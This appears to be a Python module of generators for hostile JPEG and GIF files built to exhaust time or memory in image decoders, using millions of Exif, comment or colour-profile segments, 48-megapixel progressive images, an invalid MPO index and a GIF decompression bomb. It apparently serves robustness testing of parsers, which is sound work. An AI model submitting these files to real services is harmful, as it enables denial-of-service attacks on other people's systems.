"""JPEG and GIF files that take time or memory."""

import struct

from attacks.files.sizes import filled, side_of
from attacks.formats import gif, jpeg_with, segment


def jpeg_exif_segments(size: float) -> bytes:
    """JPEG with 1.6 million Exif segments."""
    return jpeg_with(filled(segment(0xE1, b"Exif\0\0\0\0"), size))


def jpeg_fill_bytes(size: float) -> bytes:
    """JPEG with 20 MB of FF bytes before a marker."""
    return jpeg_with(filled(b"\xff", size))


def jpeg_app5_segments(size: float) -> bytes:
    """JPEG with five million empty APP5 segments."""
    return jpeg_with(filled(segment(0xE5), size))


def jpeg_comments(size: float) -> bytes:
    """JPEG with five million empty comments."""
    return jpeg_with(filled(segment(0xFE), size))


def jpeg_tables(size: float) -> bytes:
    """JPEG with 280,000 quantization tables."""
    return jpeg_with(filled(segment(0xDB, bytes(1) + b"\1" * 64), size))


def jpeg_photoshop(size: float) -> bytes:
    """JPEG with 1.6 million resources in Photoshop segments."""
    resources = b"8BIM\x04\x04\0\0\0\0\0\0" * 5000
    return jpeg_with(filled(segment(0xED, b"Photoshop 3.0\0" + resources), size))


def jpeg_profile(size: float) -> bytes:
    """JPEG whose colour profile is split into a million parts."""
    return jpeg_with(filled(segment(0xE2, b"ICC_PROFILE\0\1\xff"), size))


def jpeg_many_pictures(size: float) -> bytes:
    """JPEG that claims to be one of many in an MPO file, with an invalid index."""
    index = struct.pack("<IH", 8, 2) + struct.pack("<HHII", 0xB001, 4, 1, 65535)
    index += struct.pack("<HHII", 0xB002, 7, int(16_000_000 * size), 50) + bytes(4)
    return jpeg_with(segment(0xE2, b"MPF\0II*\0" + index) + filled(segment(0xE5), size))


def _large_jpeg(size: float, **options: object) -> bytes:
    return jpeg_with(b"", side_of(8064, size), side_of(6048, size), quality=50, **options)


def jpeg_48_megapixels(size: float) -> bytes:
    """JPEG of 8064×6048, progressive and without chroma subsampling."""
    return _large_jpeg(size, progressive=True, subsampling=0)


def jpeg_scans(size: float) -> bytes:
    """JPEG of 8064×6048 in 94 scans."""
    data = _large_jpeg(size, progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * 85 + data[-2:]


def jpeg_restarts(size: float) -> bytes:
    """JPEG of 25 million pixels with a restart marker for every block."""
    return jpeg_with(b"", side_of(5000, size), side_of(5000, size), restart_marker_blocks=1)


def gif_comment_of_bytes(size: float) -> bytes:
    """GIF whose comment is split into ten million blocks of one byte."""
    return gif((10, 10), b"\x21\xfe" + filled(b"\1x", size) + b"\0")


def gif_comments(size: float) -> bytes:
    """GIF with four million comments."""
    return gif((10, 10), filled(b"\x21\xfe\1x\0", size))


def gif_extensions(size: float) -> bytes:
    """GIF with five million unknown extensions."""
    return gif((10, 10), filled(b"\x21\x42\0\0", size))


def gif_between_blocks(size: float) -> bytes:
    """GIF with 20 million meaningless bytes between its blocks."""
    return gif((10, 10), filled(b"\0", size))


def gif_screen(size: float) -> bytes:
    """GIF of one pixel on a screen of 65535×65535."""
    return gif((65535, 65535))


def gif_bomb(size: float) -> bytes:
    """GIF of 25 million pixels of one colour."""
    side = side_of(5000, size)
    return gif((side, side), frame=(side, side))
